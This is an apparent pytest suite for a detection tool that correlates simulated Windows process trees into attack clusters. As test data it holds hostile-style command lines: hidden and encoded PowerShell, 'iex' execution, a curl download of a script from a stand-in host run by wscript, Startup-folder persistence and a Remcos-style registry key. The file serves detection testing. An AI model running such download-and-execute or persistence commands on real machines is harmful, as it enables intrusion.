"""What brought an attack about is the attack's: launchers, requesters, downloaders; and no more."""

from __future__ import annotations

import pytest
from attacks import CMD, HIVE, ROAMING, TEMP, USER, WORD, WSCRIPT, desktop, settle, tagged
from hosts import EXPLORER, SYSTEM32, Host, Program

from lineage.correlate.origins import LAUNCH, SAME_TIME
from lineage.times import TICKS

DAY = 86_400
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CURL = SYSTEM32 + "curl.exe"
MSIEXEC = SYSTEM32 + "msiexec.exe"
CONHOST = SYSTEM32 + "conhost.exe"
IEXPLORE = r"C:\Program Files (x86)\Internet Explorer\iexplore.exe"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
STARTUP = ROAMING + "Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"
PAYLOAD = ROAMING + "nipe\\nipe.exe"
CSCRIPT = SYSTEM32 + "cscript.exe"
SYSTEM = "NT AUTHORITY\\SYSTEM"


def members(host: Host) -> list[set[int | None]]:
    """Process ids of each cluster."""
    graph = tagged(host)
    return [
        {graph.graph.process(each).pid for each in cluster.processes} for cluster in graph.clusters
    ]


def payload(host: Host, parent: Program, image: str = PAYLOAD) -> Program:
    """A process that settles on the host as the family does."""
    program = host.run(image, f'"{image}"', parent=parent)
    settle(host, program, "nipe", family="K2QX")
    return program


class TestLaunchers:
    @pytest.mark.parametrize(
        "beside",
        [
            ("conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
            ("timeout.exe", "timeout /t 5"),
            ("ping.exe", "ping 127.0.0.1 -n 3"),
            ("chcp.com", "chcp 65001"),
        ],
    )
    def test_consoles_and_pauses_are_nothing_else(self, beside: tuple[str, str]) -> None:
        host = Host()
        launcher = host.run(CMD, f'cmd /c start "" {PAYLOAD}', parent=desktop(host))
        host.run(SYSTEM32 + beside[0], beside[1], parent=launcher)
        program = payload(host, launcher)
        assert members(host)[0] >= {launcher.pid, program.pid}

    def test_nor_is_the_document_that_the_victim_is_shown(self) -> None:
        host = Host()
        launcher = host.run(CMD, "cmd /c start a.docx & start nipe.exe", parent=desktop(host))
        host.run(WORD, f'"{WORD}" "{USER}a.docx"', parent=launcher)
        program = payload(host, launcher)
        assert members(host)[0] >= {launcher.pid, program.pid}

    @pytest.mark.parametrize(
        ("image", "command_line", "taken"),
        [
            (POWERSHELL, "powershell -w hidden -enc AAAA", True),
            (WSCRIPT, "wscript.exe a.js", True),
            # a window that waits for its user, and a program that isn't an interpreter
            (POWERSHELL, f'"{POWERSHELL}"', False),
            (CMD, "cmd.exe /k", False),
            (r"C:\Tools\manager.exe", "manager.exe -min", False),
        ],
    )
    def test_a_script_may_take_minutes_where_a_window_may_not(
        self, image: str, command_line: str, taken: bool
    ) -> None:
        host = Host()
        launcher = host.run(image, command_line, parent=desktop(host))
        host.wait(LAUNCH / TICKS + 120)
        program = payload(host, launcher)
        assert members(host) == [{program.pid} | ({launcher.pid} if taken else set())]

    def test_a_script_that_has_run_for_longer_is_a_service_of_its_own(self) -> None:
        host = Host()
        launcher = host.run(POWERSHELL, "powershell -File agent.ps1", parent=desktop(host))
        host.wait(SAME_TIME / TICKS)
        program = payload(host, launcher)
        assert members(host) == [{program.pid}]


class TestOneAuthor:
    """A command, a script or a program out of a user's folder also starts what nobody tags."""

    @pytest.mark.parametrize(
        ("image", "command_line", "taken"),
        [
            (POWERSHELL, 'powershell -w hidden -c "iwr x -o a.zip; tar -xf a.zip"', True),
            (CMD, "cmd.exe /c curl -o a.zip x & tar -xf a.zip & a.exe", True),
            (WSCRIPT, f'wscript.exe "{USER}Downloads\\order.js"', True),
            (CMD, f'cmd.exe /c "{TEMP}order.bat"', True),
            (USER + "Downloads\\invoice.exe", "", True),
            # the house's scripts, a window that is open for its user, a program of the house
            (WSCRIPT, r"wscript.exe C:\Scripts\logon.vbs", False),
            (WSCRIPT, r"wscript.exe \\corp\netlogon\drives.vbs", False),
            (CMD, "cmd /c logon.cmd", False),
            (POWERSHELL, f'"{POWERSHELL}"', False),
            (POWERSHELL, "powershell -NoExit -Command cls", False),
            (r"C:\Program Files\Agent\agent.exe", "agent.exe -run", False),
        ],
    )
    def test_what_else_it_starts_is_the_attacks(
        self, image: str, command_line: str, taken: bool
    ) -> None:
        host = Host()
        origin = host.run(image, command_line, parent=desktop(host))
        tar = host.run(SYSTEM32 + "tar.exe", "tar -xf a.zip", parent=origin)
        program = payload(host, origin)
        later = host.run(SYSTEM32 + "attrib.exe", "attrib +h nipe.exe", parent=origin)
        beside = {origin.pid, tar.pid, later.pid}
        assert members(host) == [{program.pid} | (beside if taken else set())]

    def test_a_portable_file_manager_starts_what_its_user_wants(self) -> None:
        host = Host()
        manager = host.run(USER + "Tools\\manager.exe", parent=desktop(host))
        host.wait(LAUNCH / TICKS)
        host.run(SYSTEM32 + "notepad.exe", parent=manager)
        program = payload(host, manager)
        assert members(host) == [{program.pid}]

    def test_a_dropper_of_two_attacks_is_followed_to_the_third_thing_it_starts(self) -> None:
        host = Host()
        dropper = host.run(USER + "Downloads\\setup.exe", parent=desktop(host))
        host.wait(2 * LAUNCH / TICKS)
        task = host.run(SYSTEM32 + "schtasks.exe", "schtasks /create /xml a.xml", parent=dropper)
        first = payload(host, dropper)
        second = host.run(ROAMING + "b\\b.exe", parent=dropper)
        settle(host, second, "b")
        assert members(host) == [{dropper.pid, task.pid, first.pid, second.pid}]

    def test_a_launcher_whose_start_was_not_logged_is_known_by_its_guid(self) -> None:
        host = Host()
        launcher = host.unseen(CMD)
        launcher.command_line = "cmd.exe /c tar -xf a.zip & a.exe"
        program = payload(host, launcher)
        assert members(host) == [{launcher.pid, program.pid}]


class TestDownloaders:
    def download(self, host: Host, wait: float = 0) -> tuple[Program, Program, Program]:
        """A shell has a downloader fetch a script, and runs it."""
        shell = host.run(CMD, "cmd /c curl -o a.js & wscript a.js", parent=desktop(host))
        curl = host.run(CURL, f"curl -o {TEMP}a.js https://example.test/a.js", parent=shell)
        host.write(curl, ROAMING + "a.dat")
        host.wait(wait)
        script = host.run(WSCRIPT, f'wscript.exe "{ROAMING}a.dat"', parent=shell)
        return shell, curl, script

    def test_who_wrote_what_ran_and_who_had_it_written_are_the_attacks(self) -> None:
        host = Host()
        shell, curl, script = self.download(host)
        program = payload(host, script)
        assert members(host) == [{shell.pid, curl.pid, script.pid, program.pid}]

    def test_who_wrote_it_long_before_is_not(self) -> None:
        host = Host()
        _, _, script = self.download(host, wait=SAME_TIME / TICKS + 60)
        program = payload(host, script)
        assert members(host) == [{script.pid, program.pid}]

    def test_an_archiver_or_file_manager_that_wrote_it_is_not(self) -> None:
        host = Host()
        shell = desktop(host)
        archiver = host.run(r"C:\Program Files\7-Zip\7zFM.exe", parent=shell)
        host.write(archiver, ROAMING + "a.dat")
        script = host.run(WSCRIPT, f'wscript.exe "{ROAMING}a.dat"', parent=shell)
        program = payload(host, script)
        assert members(host) == [{script.pid, program.pid}]


class TestServices:
    def test_a_script_that_works_through_wmi_and_comes_again_at_the_next_logon(self) -> None:
        host = Host()
        script = host.run(WSCRIPT, f'wscript.exe "{TEMP}order.js"', parent=desktop(host))
        host.write(script, STARTUP + "order.js")
        host.load(script, SYSTEM32 + "wbem\\wbemdisp.dll")
        provider = host.unseen(SYSTEM32 + "wbem\\WmiPrvSE.exe")
        shell = host.run(POWERSHELL, "powershell -w hidden -c iex $a", parent=provider)
        program = payload(host, shell, r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegAsm.exe")
        host.wait(DAY)
        again = host.run(WSCRIPT, f'wscript.exe "{STARTUP}order.js"', parent=desktop(host))
        assert members(host) == [{script.pid, shell.pid, program.pid, again.pid}]

    def test_an_installation_that_a_shell_began(self) -> None:
        host = Host()
        shell = host.run(CMD, "cmd /c msiexec /i a.msi /qn", parent=desktop(host))
        client = host.run(MSIEXEC, f'msiexec /i "{TEMP}a.msi" /qn', parent=shell)
        service = host.run(MSIEXEC, "msiexec.exe /V", parent=host.unseen(SYSTEM32 + "services.exe"))
        program = payload(host, service)
        assert members(host) == [{shell.pid, client.pid, program.pid}]

    def test_an_installation_that_the_user_began(self) -> None:
        host = Host()
        client = host.run(MSIEXEC, f'msiexec.exe /i "{USER}a.msi"', parent=desktop(host))
        service = host.run(MSIEXEC, "msiexec.exe /V", parent=host.unseen(SYSTEM32 + "services.exe"))
        program = payload(host, service)
        assert members(host) == [{client.pid, program.pid}]

    def test_the_installer_service_joins_no_strangers(self) -> None:
        host = Host()
        services = host.unseen(SYSTEM32 + "services.exe")
        service = host.run(MSIEXEC, "msiexec.exe /V", parent=services)
        other = host.run(TEMP + "other-setup.exe", parent=service)
        host.write(other, TEMP + "other.exe")
        program = payload(host, service)
        assert {program.pid} in members(host)
        assert not any({other.pid, program.pid} <= each for each in members(host))

    def test_a_program_that_com_starts_anew_with_more_rights(self) -> None:
        host = Host()
        first = host.run(PAYLOAD, parent=desktop(host))
        surrogate = host.run(
            SYSTEM32 + "dllhost.exe",
            "DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
            parent=host.unseen(SYSTEM32 + "svchost.exe"),
        )
        second = payload(host, surrogate)
        assert members(host) == [{first.pid, second.pid}]


class TestInhabitedPrograms:
    def key(self, host: Host, by: Program) -> None:
        host.set_value(by, f"{HIVE}Software\\Remcos-K2QX\\exepath", "01AB")

    @pytest.mark.parametrize("image", [IEXPLORE, CHROME])
    def test_a_browser_in_which_the_malware_runs_is_the_attacks_with_its_children(
        self, image: str
    ) -> None:
        host = Host()
        program = payload(host, desktop(host))
        browser = host.run(image, f'"{image}"', parent=program)
        before = host.run(r"C:\Windows\SysWOW64\svchost.exe", parent=browser)
        self.key(host, browser)
        after = host.run(CMD, "cmd /c whoami", parent=browser)
        assert members(host) == [{program.pid, browser.pid, before.pid, after.pid}]

    def test_a_browser_that_was_honest_before_is_the_attacks_from_then_on(self) -> None:
        host = Host()
        browser = host.run(CHROME, parent=desktop(host))
        before = host.run(USER + "Downloads\\game.exe", parent=browser)
        self.key(host, browser)
        after = host.run(CMD, "cmd /c whoami", parent=browser)
        assert members(host) == [{browser.pid, after.pid}]
        assert before.pid not in members(host)[0]

    def test_the_sessions_shell_still_starts_what_its_user_wants(self) -> None:
        host = Host()
        shell = host.run(EXPLORER, parent=host.unseen(SYSTEM32 + "userinit.exe"))
        self.key(host, shell)
        host.run(SYSTEM32 + "notepad.exe", parent=shell)
        host.run(CHROME, parent=shell)
        assert members(host) == [{shell.pid}]

    def test_who_removes_the_key_is_no_malware(self) -> None:
        host = Host()
        scanner = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4\MsMpEng.exe"
        guard = host.run(scanner, parent=host.unseen(SYSTEM32 + "services.exe"))
        host.change_key(guard, f"{HIVE}Software\\Remcos-K2QX", "DeleteKey")
        host.run(SYSTEM32 + "svchost.exe", parent=guard)
        assert all(guard.pid not in each for each in members(host))


class TestRenamedInterpreters:
    HASH = "SHA256=" + "5C" * 32

    def admin(self, host: Host) -> set[int | None]:
        """An administrator's script runs ten times, each with a shell."""
        pids = set()
        for _ in range(10):
            script = host.run(
                CSCRIPT,
                r"cscript.exe //nologo C:\Scripts\inventory.vbs",
                parent=desktop(host),
                Hashes=self.HASH,
                OriginalFileName="cscript.exe",
            )
            shell = host.run(CMD, r"cmd /c systeminfo > C:\Scripts\out.txt", parent=script)
            pids |= {script.pid, shell.pid}
            host.wait(600)
        return pids

    def attack(self, host: Host) -> set[int | None]:
        """A script host copies itself and runs the copy."""
        first = host.run(WSCRIPT, f'wscript.exe "{TEMP}a.js"', parent=desktop(host))
        host.write(first, ROAMING + "host.exe")
        renamed = host.run(
            ROAMING + "host.exe",
            f'host.exe //e:jscript "{ROAMING}b.txt"',
            parent=first,
            Hashes=self.HASH,
            OriginalFileName="cscript.exe",
        )
        return {first.pid, renamed.pid, payload(host, renamed).pid}

    @pytest.mark.parametrize("attack_first", [True, False])
    def test_do_not_take_the_honest_ones_in(self, attack_first: bool) -> None:
        host = Host()
        attack = self.attack(host) if attack_first else set()
        honest = self.admin(host)
        attack = attack or self.attack(host)
        with_attack = [each for each in members(host) if each & attack]
        assert with_attack == [attack]
        assert not honest & attack

    def test_run_what_they_are_given(self) -> None:
        host = Host()
        writer = host.run(WSCRIPT, f'wscript.exe "{TEMP}a.js"', parent=desktop(host))
        host.write(writer, ROAMING + "b.txt")
        renamed = host.run(
            r"C:\ProgramData\viewer.exe",
            f'viewer.exe //e:jscript "{ROAMING}b.txt"',
            parent=desktop(host),
            OriginalFileName="cscript.exe",
        )
        program = payload(host, renamed)
        assert members(host) == [{writer.pid, renamed.pid, program.pid}]
